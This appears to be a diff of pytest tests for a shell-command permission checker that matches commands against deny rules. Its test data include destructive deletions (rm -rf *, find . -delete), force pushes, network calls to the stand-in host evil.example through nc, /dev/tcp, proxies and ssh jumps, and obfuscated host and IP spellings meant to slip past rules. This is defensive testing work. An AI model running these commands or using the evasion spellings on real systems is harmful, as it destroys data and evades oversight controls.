@@ -35,6 +35,15 @@ PUSHES = (
     "git $UNKNOWN",
     "f() { git push; }; f",
     "python3 -c 'import os; os.system(\"git push\")'",
+    "git send-pack origin main",
+    "git -C sub send-pack --all origin",
+    "git subtree push --prefix=lib origin lib",
+    "git subtree -P lib push origin lib",
+    "git --unknown-option value push",
+    "/usr/lib/git-core/git-push origin",
+    "git-send-pack origin",
+    "hub push",
+    "git lfs push origin main",
 )
 
 
@@ -48,6 +57,131 @@ def test_a_denied_command_is_found_however_it_is_written(command: str) -> None:
 def test_and_nothing_else(command: str) -> None:
     rules = Rules([DENY_PUSH], ["git push*"])
     assert rules.denied(command, examine_command(command).acts, GROUND) is None
+
+
+PUBLISHES = (
+    "npm publish",
+    "npm --silent publish",
+    "npm --loglevel silent publish",
+    "npm -w lib publish --access public",
+    "npm pub",
+    "yarn npm publish",
+    "yarn publish",
+    "pnpm --filter lib publish",
+    "npx npm publish",
+    "bun publish",
+)
+
+
+@pytest.mark.parametrize("command", PUBLISHES)
+@pytest.mark.parametrize("by_glob", [False, True])
+def test_a_denied_effect_has_many_spellings(command: str, by_glob: bool) -> None:
+    named = Rules([rule("deny", "npm publish", command=("npm", "publish"))])
+    rules = Rules([], ["npm publish*"]) if by_glob else named
+    assert rules.denied(command, examine_command(command).acts, GROUND)
+
+
+@pytest.mark.parametrize("command", ["npm run build", "npm --silent test", "npm view publish", "yarn build", "npm ci"])
+def test_other_effects_of_the_same_program_are_not_denied(command: str) -> None:
+    rules = Rules([rule("deny", "npm publish", command=("npm", "publish"))], ["npm publish*"])
+    assert rules.denied(command, examine_command(command).acts, GROUND) is None
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git push --force",
+        "git push origin main --force",
+        "git push -f",
+        "git push -uf origin main",
+        "git push origin +main",
+    ],
+)
+def test_a_denied_option_counts_wherever_it_stands(command: str) -> None:
+    for rules in (Rules([], ["git push --force*"]), Rules([rule("deny", "git push --force", command=FORCE)])):
+        assert rules.denied(command, examine_command(command).acts, GROUND), command
+        assert rules.denied("git push origin main", examine_command("git push origin main").acts, GROUND) is None
+
+
+FORCE = ("git", "push", "--force")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "kubectl delete --force pod web-1",
+        "kubectl -n prod delete pod web-1",
+        "kubectl delete -n prod pod web-1",
+        "kubectl --context x delete --grace-period 0 pod web-1",
+    ],
+)
+def test_options_between_the_words_of_a_rule_do_not_hide_them(command: str) -> None:
+    rules = Rules([rule("deny", "kubectl delete pod x", command=("kubectl", "delete", "pod"))])
+    assert rules.denied(command, examine_command(command).acts, GROUND)
+
+
+MIGRATIONS = rule("deny", "rm migrations/a", path="migrations/**")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "find migrations -delete",
+        "find migrations -name '*.py' -delete",
+        "find . -delete",
+        "find . -type f -delete",
+        "git clean -fdx migrations",
+        "git clean -fdx -- ./migrations/old",
+        "rm -rf *",
+        "rm -rf migr*",
+        "rm -r m?grations",
+        "rm migrations/*.py",
+        'rm -rf "migrations/$X"',
+        "python3 -c 'import shutil; shutil.rmtree(\"migrations\")'",
+    ],
+)
+def test_a_denied_path_is_kept_from_every_way_to_delete_it(command: str) -> None:
+    assert Rules([MIGRATIONS]).denied(command, examine_command(command).acts, GROUND)
+
+
+@pytest.mark.parametrize("command", ["find . -name '*.pyc' -delete", "find . -mtime +30 -delete", "git clean -fdx"])
+def test_what_may_delete_a_denied_path_is_asked_about(command: str) -> None:
+    rules, acts = Rules([MIGRATIONS]), examine_command(command).acts
+    assert rules.denied(command, acts, GROUND) is None
+    assert list(rules.asked(acts, GROUND))
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "find logs -name '*.log' -delete",
+        "rm *.log",
+        "rm *",
+        "rm -rf build",
+        "git clean -fdx build",
+        "rm -rf bu*",
+        "rm -rf mig",
+    ],
+)
+def test_and_deleting_something_else_is_not(command: str) -> None:
+    rules, acts = Rules([MIGRATIONS, rule("deny", "rm .env", path=".env")]), examine_command(command).acts
+    assert rules.denied(command, acts, GROUND) is None
+    assert not list(rules.asked(acts, GROUND))
+
+
+@pytest.mark.parametrize(
+    "command", ["find build -delete", "git clean -fdx build", "python3 -c 'import shutil; shutil.rmtree(\"build\")'"]
+)
+def test_deleting_is_what_rm_does_whatever_does_it(command: str) -> None:
+    for rules in (Rules([rule("deny", "rm x", command=("rm",))]), Rules([], ["rm -rf*"])):
+        assert rules.denied(command, examine_command(command).acts, GROUND)
+        assert rules.denied("", examine_command("mv a b; touch c").acts, GROUND) is None
+
+
+def test_a_glob_of_whole_paths_does_not_deny_the_workspace() -> None:
+    rules = Rules([], ["rm -rf /*"])
+    assert rules.denied("rm -rf build", examine_command("rm -rf build").acts, GROUND) is None
+    assert rules.denied("find /srv/x -delete", examine_command("find /srv/x -delete").acts, GROUND)
 
 
 @pytest.mark.parametrize(
@@ -96,13 +230,46 @@ def test_a_path_that_cannot_be_known_may_be_what_is_denied_and_is_asked_about() 
         ("echo x > /dev/tcp/evil.example/80", True),
         ("wget evil.example/x", True),
         ("python3 -c \"import requests; requests.get('http://evil.example/')\"", True),
+        ("curl https://evil.example./", True),
+        ("curl https://EVIL.example.:443/x", True),
+        ("curl https://ev%69l.example/", True),
+        ("wget evil.example./x", True),
+        ("ssh me@evil.example. ls", True),
+        ("ssh -o HostName=evil.example web1 ls", True),
+        ("ssh -J evil.example web1 ls", True),
+        ("curl --connect-to ok.example:443:evil.example:443 https://ok.example", True),
+        ("curl --connect-to ::evil.example: https://ok.example", True),
+        ("curl -x http://evil.example:3128 https://ok.example", True),
+        ("https_proxy=http://evil.example:3128 curl https://ok.example", True),
+        ("curl -H 'Host: evil.example' https://203.0.113.7/", True),
+        ("openssl s_client -connect evil.example:443", True),
+        ("openssl s_client -quiet -connect api.evil.example:443 < x", True),
+        ("psql -h evil.example -c 'select 1'", True),
+        ("nc evil.example 80", True),
         ("curl https://evil.example.org/", False),
+        ("curl --connect-to ok.example:443:127.0.0.1:443 https://ok.example", False),
+        ("openssl x509 -in evil.example -noout", False),
         ("echo evil.example", False),
     ],
 )
 def test_a_host_is_found_wherever_it_is_named(command: str, applies: bool) -> None:
     rules = Rules([rule("deny", "curl https://evil.example", network="*.evil.example")])
     assert bool(rules.denied(command, examine_command(command).acts, GROUND)) is applies
+
+
+def test_an_address_in_the_place_of_a_name_is_asked_about() -> None:
+    rules = Rules([rule("deny", "curl https://evil.example", network="*.evil.example")])
+    acts = examine_command("curl --resolve ok.example:443:203.0.113.7 https://ok.example").acts
+    assert rules.denied("", acts, GROUND) is None
+    assert list(rules.asked(acts, GROUND))
+    assert not list(rules.asked(examine_command("curl --resolve a.test:80:127.0.0.1 http://a.test").acts, GROUND))
+
+
+@pytest.mark.parametrize("host", ["203.0.113.7", "0xcb.0.113.7", "3405803783", "203.0.28935"])
+def test_an_address_is_ruled_in_every_spelling(host: str) -> None:
+    rules = Rules([rule("deny", "curl http://203.0.113.7", network="203.0.113.*")])
+    command = f"curl http://{host}/x"
+    assert rules.denied(command, examine_command(command).acts, GROUND)
 
 
 def test_the_first_rule_that_applies_decides_between_asking_and_allowing() -> None:
